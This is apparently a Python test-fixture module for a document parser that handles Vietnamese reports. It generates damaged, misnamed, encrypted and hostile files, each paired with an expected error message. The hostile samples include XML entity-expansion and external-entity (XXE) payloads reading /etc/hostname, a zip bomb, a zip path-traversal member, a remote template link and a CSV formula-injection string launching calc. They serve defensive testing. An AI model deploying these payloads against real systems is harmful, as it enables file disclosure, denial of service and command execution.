"""Broken and hostile files: each function writes one and returns its path."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.sample_documents.layouts import Grid, write_docx, write_pdf, write_text, write_xlsx

SMALL = ["UBND TỈNH QUẢNG TRỊ", "Số: 7/BC-UBND", Grid([["STT", "Chỉ tiêu", "Số liệu"], ["1", "Hồ sơ", "12"]])]
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_BODY = (
    '<?xml version="1.0"?>{dtd}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body>{content}</w:body></w:document>"
)


def _package(path: Path, document: bytes, extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", document)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return path


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def truncated_docx(folder: Path) -> Path:
    path = write_docx(folder / "cut.docx", SMALL)
    path.write_bytes(path.read_bytes()[:-2000])
    return path


def truncated_pdf(folder: Path) -> Path:
    path = folder / "cut.pdf"
    path.write_bytes(b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Ty")
    return path


def truncated_xlsx(folder: Path) -> Path:
    path = write_xlsx(folder / "cut.xlsx", SMALL)
    path.write_bytes(path.read_bytes()[:3000])
    return path


def empty(folder: Path) -> Path:
    path = folder / "empty.txt"
    path.write_bytes(b"")
    return path


def blank(folder: Path) -> Path:
    path = folder / "blank.txt"
    path.write_bytes(b"\xef\xbb\xbf \n\n\t\n")
    return path


def rules_only(folder: Path) -> Path:
    path = folder / "rules.md"
    path.write_text("-----\n\n|\n", encoding="utf-8")
    return path


def pdf_named_docx(folder: Path) -> Path:
    path = folder / "report.docx"
    path.write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    return path


def docx_named_pdf(folder: Path) -> Path:
    path = write_docx(folder / "a.docx", SMALL)
    return path.rename(folder / "report.pdf")


def text_named_xlsx(folder: Path) -> Path:
    return write_text(folder / "report.xlsx", SMALL)


def old_word(folder: Path) -> Path:
    path = folder / "old.doc"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096)
    return path


def encrypted_office(folder: Path) -> Path:
    path = folder / "secret.docx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512 + "EncryptedPackage".encode("utf-16-le"))
    return path


def scan(folder: Path) -> Path:
    """A PDF whose page is a picture."""
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen.canvas import Canvas

    path = folder / "scan.pdf"
    picture = io.BytesIO()
    picture.write(_png())
    picture.seek(0)
    canvas = Canvas(str(path))
    canvas.drawImage(ImageReader(picture), 50, 50, 400, 600)
    canvas.save()
    return path


def _png() -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4, "big") + kind + content + zlib.crc32(kind + content).to_bytes(4, "big")

    size = (8).to_bytes(4, "big")
    rows = zlib.compress(b"".join(b"\x00" + b"\x80" * 8 for _ in range(8)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", size + size + b"\x08\x00\x00\x00\x00")
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


def encrypted_pdf(folder: Path) -> Path:
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen.canvas import Canvas

    path = folder / "secret.pdf"
    canvas = Canvas(str(path), encrypt=pdfencrypt.StandardEncryption("user", "owner"))
    canvas.drawString(100, 700, "Bao cao")
    canvas.save()
    return path


def zip_bomb(folder: Path) -> Path:
    content = _BODY.format(dtd="", content=_paragraph("a" * 1000)).encode()
    return _package(folder / "bomb.docx", content, {"word/media/big.xml": b" " * 60_000_000})


def entities(folder: Path) -> Path:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    dtd = f'<!DOCTYPE w [<!ENTITY l0 "ha">{levels}]>'
    return _package(folder / "laughs.docx", _BODY.format(dtd=dtd, content=_paragraph("&l9;")).encode())


def external_entity(folder: Path) -> Path:
    dtd = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    return _package(folder / "outside.docx", _BODY.format(dtd=dtd, content=_paragraph("&x;")).encode())


def html_entities(folder: Path) -> Path:
    path = folder / "page.html"
    path.write_text(
        '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">]><html><p>&x;</p></html>', encoding="utf-8"
    )
    return path


def remote_template(folder: Path) -> Path:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return _package(
        folder / "remote.docx",
        _BODY.format(dtd="", content=_paragraph("x")).encode(),
        {"word/_rels/settings.xml.rels": relations.encode()},
    )


def path_in_member(folder: Path) -> Path:
    return _package(
        folder / "outside.docx", _BODY.format(dtd="", content=_paragraph("x")).encode(), {"../../evil.xml": b"<a/>"}
    )


def deep_xml(folder: Path) -> Path:
    deep = "<w:sdt><w:sdtContent>" * 3000 + _paragraph("x") + "</w:sdtContent></w:sdt>" * 3000
    return _package(folder / "deep.docx", _BODY.format(dtd="", content=deep).encode())


def nested_tables(folder: Path) -> Path:
    deep = "<w:tbl><w:tr><w:tc>" * 40 + _paragraph("x") + "</w:tc></w:tr></w:tbl>" * 40
    return _package(folder / "nested.docx", _BODY.format(dtd="", content=deep).encode())


def formula(folder: Path) -> Path:
    """A formula Excel never computed: the workbook holds no value beside it."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["STT", "Chỉ tiêu", "Số liệu"])
    book.active.append([1, "Hồ sơ", "=SUM(1,2)"])
    book.save(folder / "formula.xlsx")
    return folder / "formula.xlsx"


def formula_in_csv(folder: Path) -> Path:
    path = folder / "formula.csv"
    path.write_text("STT;Chỉ tiêu;Số liệu\n1;Hồ sơ;=cmd|' /C calc'!A0\n", encoding="utf-8")
    return path


def wide_span(folder: Path) -> Path:
    path = folder / "span.html"
    rows = "<tr>" + "<td colspan='100000' rowspan='100000'>x</td>" * 3000 + "</tr>"
    path.write_text(f"<html><body><table>{rows}</table></body></html>", encoding="utf-8")
    return path


def picture(folder: Path) -> Path:
    path = folder / "photo.txt"
    path.write_bytes(_png())
    return path


def other_zip(folder: Path) -> Path:
    path = folder / "papers.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a.txt", "x")
    return path


def binary(folder: Path) -> Path:
    path = folder / "noise.txt"
    path.write_bytes(bytes(range(256)) * 40)
    return path


def tcvn3(folder: Path) -> Path:
    path = folder / "tcvn3.txt"
    path.write_bytes(
        "ñy ban nh©n d©n tØnh. C¶i c¸ch hµnh chÝnh cña tØnh vµ c¸c thñ tôc ®­îc c«ng bè ®Õn nay".encode("cp1252")
    )
    return path


def vni(folder: Path) -> Path:
    path = folder / "vni.txt"
    path.write_bytes(
        "Uûy ban nhaân daân tænh. Caûi caùch haønh chính cuûa tænh vaø caùc thuû tuïc ñöôïc coâng boá".encode("cp1252")
    )
    return path


def tcvn3_in_word(folder: Path) -> Path:
    return write_docx(
        folder / "tcvn3.docx", ["C¶i c¸ch hµnh chÝnh cña tØnh vµ c¸c thñ tôc ®­îc c«ng bè, viÖc nµy ®Õn nay ®· xong"]
    )


def broken_utf16(folder: Path) -> Path:
    path = folder / "utf16.txt"
    path.write_bytes(b"\xff\xfe" + "Số liệu".encode("utf-16-le") + b"\x00\xd8")
    return path


def missing(folder: Path) -> Path:
    return folder / "nowhere.docx"


def a_folder(folder: Path) -> Path:
    path = folder / "inside.docx"
    path.mkdir()
    return path


def cut_pdf_with_text(folder: Path) -> Path:
    path = write_pdf(folder / "half.pdf", SMALL * 20)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def twice_in_archive(folder: Path) -> Path:
    """Two parts of one name: which one a reader sees depends on the reader."""
    import warnings

    path = _package(folder / "twice.docx", _BODY.format(dtd="", content=_paragraph("một")).encode())
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", _BODY.format(dtd="", content=_paragraph("hai")))
    return path


def no_word_document(folder: Path) -> Path:
    """A package in order whose document is something else."""
    return _package(folder / "other.docx", b"<html/>")


def pdf_without_pages(folder: Path) -> Path:
    path = folder / "none.pdf"
    path.write_bytes(
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 1>>\n"
        b"endobj\ntrailer\n<</Root 1 0 R>>\n%%EOF"
    )
    return path


def cut_letter(folder: Path) -> Path:
    path = folder / "letter.txt"
    path.write_bytes("Báo cáo cải cách hành chính quý I năm 2024 của tỉnh".encode() + b"\xc3")
    return path


# What each file's error must say.
CASES: dict[Callable[[Path], Path], str] = {
    truncated_docx: "damaged",
    truncated_pdf: "damaged",
    truncated_xlsx: "damaged",
    empty: "empty",
    blank: "empty",
    rules_only: "no text",
    pdf_named_docx: "it is a PDF",
    docx_named_pdf: "it is a Word",
    text_named_xlsx: "named .xlsx",
    old_word: "old Word",
    encrypted_office: "encrypted",
    scan: "scan",
    encrypted_pdf: "encrypted",
    zip_bomb: "bomb",
    entities: "entities",
    external_entity: "entities",
    html_entities: "entities",
    remote_template: "elsewhere",
    path_in_member: "leads outside",
    deep_xml: "",
    nested_tables: "",
    formula: "formula",
    formula_in_csv: "formula",
    wide_span: "cells",
    picture: "picture",
    other_zip: "zip",
    binary: "",
    twice_in_archive: "twice",
    no_word_document: "without a body",
    pdf_without_pages: "no pages",
    cut_letter: "middle of a letter",
    tcvn3: "TCVN3",
    vni: "VNI",
    tcvn3_in_word: "TCVN3",
    broken_utf16: "UTF-16",
    missing: "cannot be read",
    a_folder: "folder",
    cut_pdf_with_text: "",
}
